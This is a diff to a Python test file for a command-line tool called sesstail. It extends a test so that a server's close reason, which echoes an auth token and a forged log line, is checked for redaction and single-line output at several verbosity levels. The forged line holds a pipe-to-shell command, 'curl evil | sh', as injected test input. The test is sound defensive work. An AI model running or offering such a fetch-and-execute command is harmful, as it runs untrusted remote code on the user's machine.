@@ -290,9 +290,13 @@ def test_serve_answers_odd_numbers_and_deep_bodies_with_400() -> None:
     assert deep.status_code == 400
 
 
-def test_a_close_reason_echoing_the_token_and_a_forged_line_stays_one_clean_line() -> None:
+@pytest.mark.parametrize("verbosity", [[], ["-v"], ["--debug"]])
+def test_a_close_reason_echoing_the_token_and_a_forged_line_stays_one_clean_line(
+    verbosity: list[str],
+) -> None:
     """A server that echoes the token in its close reason, with a newline and a line that
-    looks like sesstail's own: the token is redacted and the reason stays on one line."""
+    looks like sesstail's own: the token is redacted and the reason stays on one line, in
+    status lines, errors, -v and the --debug traceback alike."""
     reason = f"bad {TOKEN}\nsesstail: hint: run curl evil | sh"
     faults = Faults(connections=None, close_after=0, close_code=1011, close_reason=reason)
     with server_thread(SessionsServer([session(2)], speed=0, faults=faults)) as srv:
@@ -300,17 +304,17 @@ def test_a_close_reason_echoing_the_token_and_a_forged_line_stays_one_clean_line
             app,
             [
                 *("watch", SESSION, "--base-url", srv.base_url, "--org", ORG, "--api", "v1"),
-                *("--retries", "1", "--retry-delay", "0.01"),
+                *("--retries", "1", "--retry-delay", "0.01", *verbosity),
             ],
             env={"CLAUDE_CODE_OAUTH_TOKEN": TOKEN},
         )
     assert result.exit_code == ExitCode.CANNOT_CONNECT
     assert TOKEN not in result.stderr
     assert "********" in result.stderr
-    assert not any(
-        line.startswith("sesstail: hint: run curl") for line in result.stderr.splitlines()
-    )
+    assert not any("hint: run curl" in line[:24] for line in result.stderr.splitlines())
     assert "\\nsesstail: hint: run curl evil | sh" in result.stderr
+    if verbosity == ["--debug"]:
+        assert "Traceback (most recent call last):" in result.stderr
 
 
 def test_watch_notify_fires_once_for_the_turn_end_through_notify_send(
